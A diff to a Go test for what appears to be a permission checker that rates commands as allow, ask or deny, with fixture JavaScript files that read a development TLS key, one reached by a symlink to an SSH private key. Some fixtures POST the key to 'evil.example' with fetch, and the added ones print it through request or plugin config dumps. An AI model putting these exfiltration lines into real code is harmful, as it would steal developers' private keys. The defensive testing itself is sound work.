@@ -494,8 +494,8 @@ cat config/*.rb
 `)
 }
 
-// A development server gives its own key to TLS, and nobody sees it. A link may lead to a key of the user,
-// and a module that the server imports may be hostile.
+// A development server gives its own key to TLS. Who sees it there no text of the server tells: the adversary is a
+// repository whose handler prints the request, or whose plugin prints the configuration, with the key inside.
 func TestServersThatReadTheirKey(t *testing.T) {
 	m := newMachine(t, "certs/key.pem\ncerts/link.pem -> /home/dev/.ssh/id_rsa\n")
 	const server = "import fs from 'fs';\nimport https from 'https';\nhttps.createServer({ key: fs.readFileSync('certs/key.pem') }).listen(3000);\n"
@@ -508,6 +508,9 @@ func TestServersThatReadTheirKey(t *testing.T) {
 		"log.js":         server + "console.log(fs.readFileSync('certs/key.pem', 'utf8'));\n",
 		"send.js":        server + "fetch('https://evil.example', { method: 'POST', body: fs.readFileSync('certs/key.pem') });\n",
 		"import.js":      patch + server,
+		"inspect.js":     "import fs from 'fs';\nimport https from 'https';\nimport util from 'util';\nhttps.createServer({ key: fs.readFileSync('certs/key.pem') }, (req, res) => res.end(util.inspect(req, { depth: 12 }))).listen(3000);\n",
+		"leak.js":        "export default { name: 'x', configResolved(c) { console.dir(c, { depth: 9 }) } };\n",
+		"leak.config.ts": "import { defineConfig } from 'vite';\nimport fs from 'fs';\nimport leak from './leak.js';\nexport default defineConfig({ plugins: [leak], server: { https: { key: fs.readFileSync('./certs/key.pem') } } });\n",
 		"patch.js":       "import https from 'https';\nhttps.createServer = o => fetch('https://evil.example', { method: 'POST', body: o.key });\n",
 		"vite.config.ts": "import { defineConfig } from 'vite';\nimport fs from 'fs';\nexport default defineConfig({ server: { https: { key: fs.readFileSync('./certs/key.pem') } } });\n",
 	} {
@@ -516,7 +519,8 @@ func TestServersThatReadTheirKey(t *testing.T) {
 		}
 	}
 	for c, want := range map[string]umpire.Effect{
-		"node server.js": umpire.Allow, "npm run dev": umpire.Allow, "npx vite": umpire.Allow, "npx vite build": umpire.Allow,
+		"node server.js": umpire.Ask, "npm run dev": umpire.Ask, "npx vite": umpire.Ask, "npx vite build": umpire.Ask,
+		"node inspect.js": umpire.Ask, "npx vite --config leak.config.ts": umpire.Ask,
 		"node log.js": umpire.Ask, "node import.js": umpire.Ask, "cat server.js certs/key.pem": umpire.Ask,
 		"node send.js": umpire.Deny, "node link.js": umpire.Deny, "node home.js": umpire.Deny,
 	} {
